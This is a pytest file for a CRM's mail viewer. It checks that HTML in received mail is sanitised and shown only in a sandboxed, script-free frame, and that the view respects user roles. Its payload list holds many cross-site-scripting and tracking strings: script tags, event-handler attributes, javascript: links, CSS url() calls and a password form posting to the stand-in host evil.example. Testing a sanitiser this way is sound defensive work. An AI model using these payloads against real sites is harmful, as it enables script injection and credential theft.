"""A mail is shown as it was formatted, and nothing that was put into it runs, loads, sends or leaves its frame."""

from __future__ import annotations

import re
from email.message import EmailMessage

import pytest
from flask import Flask
from flask.testing import FlaskClient

from crm.inbound.formatting import document_of
from crm.policy import Role
from tests.factories.accounts import make_user, sign_in
from tests.factories.inbound import a_mail, received
from tests.inbound.test_answers import replied
from tests.inbound.test_replies import header_of
from tests.inbox.test_views import sent_letter

EVIL = "https://evil.example"
NASTY = (
    f"<script src='{EVIL}/x.js'></script><script>alert(1)</script>",
    f"<img src='{EVIL}/pixel.gif' onerror='alert(1)'><img srcset='{EVIL}/a 2x'><input type=image src='{EVIL}'>",
    f"<svg onload=alert(1)><script>alert(1)</script><image href='{EVIL}'/></svg><math><mtext><style>x</style></math>",
    f"<form action='{EVIL}'><input name=password><button formaction='{EVIL}'>Send</button></form>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'><base href='{EVIL}'><link rel=stylesheet href='{EVIL}'>",
    f"<div style=\"background:url('{EVIL}');background-image:url({EVIL});position:fixed;top:0\">a</div>",
    f"<div style='background-color:url({EVIL});color:rgb(1, 2,3);width:\\75rl({EVIL})'>a</div>",
    f"<style>@import '{EVIL}'; body{{background:url({EVIL})}}</style><table background='{EVIL}'><tr><td>x",
    "<a href='javascript:alert(1)'>a</a><a href=' java\tscript:alert(1)'>b</a><a href='data:text/html,x'>c</a>",
    f"<a href='/sign-out' onclick='alert(1)' ping='{EVIL}'>d</a><iframe src='{EVIL}'></iframe>",
    f"<object data='{EVIL}'></object><embed src='{EVIL}'><video poster='{EVIL}'></video><audio src='{EVIL}'>",
    "</title></style></head></body></html><script>alert(1)</script><details open ontoggle=alert(1)>x</details>",
    "<p id=csrf_token name=csrf_token class=toast accesskey=x autofocus tabindex=1 contenteditable>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript><template><img src=x onerror=alert(1)>",
)
# What may be in an element that comes of a mail.
ALLOWED = re.compile(
    r"</?(?!script|img|svg|math|form|input|button|meta|base|link|iframe|object|embed|video|audio|style)[a-z0-9]+"
    r"(?: (?:align|bgcolor|border|cellpadding|cellspacing|colspan|dir|lang|rel|style|target|title|width|start|type)"
    r'="[^"<>]*"| href="(?:https?|mailto):[^"<>]*")*>'
)


def _of(html: str) -> EmailMessage:
    mail = a_mail("Plain words.")
    mail.add_alternative(html, subtype="html")
    return mail


@pytest.mark.parametrize("nasty", NASTY)
def test_nothing_is_left_of_what_could_do_harm(nasty: str) -> None:
    document = document_of(_of(f"<p>Before {nasty}</p><p><b>After</b></p>"), "x", "quoted")
    assert document is not None
    body = document.partition("<body>")[2].removesuffix("</body></html>")
    assert "Before" in body
    leftovers = [tag for tag in re.findall(r"<[^>]*>", body) if not ALLOWED.fullmatch(tag)]
    assert leftovers == []
    assert "evil.example" not in body
    assert not re.search(r"(?i)url\(|javascript:|alert\(1\).*>|on[a-z]+=", re.sub(r">[^<]*<", "><", body))


@pytest.mark.sqlite_only
def test_it_looks_as_it_was_written_with_the_quotation_folded(app: Flask, client: FlaskClient) -> None:
    letter = sent_letter()
    quotation = "<div class='gmail_quote'>On Sat, Ola wrote:<blockquote>Please ratify</blockquote></div>"
    html = (
        "<html><head><title>T</title></head><body><p style='color:#b00;position:fixed'>I <b>shall</b></p>"
        "<table border=1><tr><td dir=rtl>نعم</td></tr></table>"
        f"<a href='https://parliament.example/vote'>my vote</a>{quotation}</body></html>"
    )
    mail = a_mail("I shall", In_Reply_To=header_of(letter))
    mail.add_alternative(html, subtype="html")
    message = received(mail)
    sign_in(client, make_user(Role.OFFICER))
    page = client.get(f"/received/{message.id}").text
    assert "Show as it was formatted" in page
    answer = client.get(f"/received/{message.id}/formatted")
    assert '<p style="color:#b00">I <b>shall</b></p>' in answer.text
    assert '<td dir="rtl">نعم</td>' in answer.text
    assert 'href="https://parliament.example/vote"' in answer.text
    assert 'rel="noopener noreferrer nofollow"' in answer.text
    new, _, quoted = answer.text.partition("<details><summary>What it quotes</summary>")
    assert ("shall" in new, "Please ratify" in new, "Please ratify" in quoted) == (True, False, True)
    policy = answer.headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "sandbox" in policy
    assert "allow-scripts" not in policy
    assert "allow-same-origin" not in policy
    # A viewer reads it on the timeline; a mail without HTML offers nothing.
    plain = replied(letter)
    sign_in(client, make_user(Role.VIEWER))
    reply = client.get(f"/contacts/{letter.contact_id}").text
    interaction = re.findall(r"/interactions/(\d+)", reply)
    formatted = {number: client.get(f"/interactions/{number}/formatted").status_code for number in interaction}
    assert sorted(formatted.values()) == [200, 404]
    assert formatted[str(plain.id)] == 404
    assert "Show as it was formatted" not in client.get(f"/interactions/{plain.id}").text
    assert client.get(f"/received/{message.id}/formatted").status_code == 403
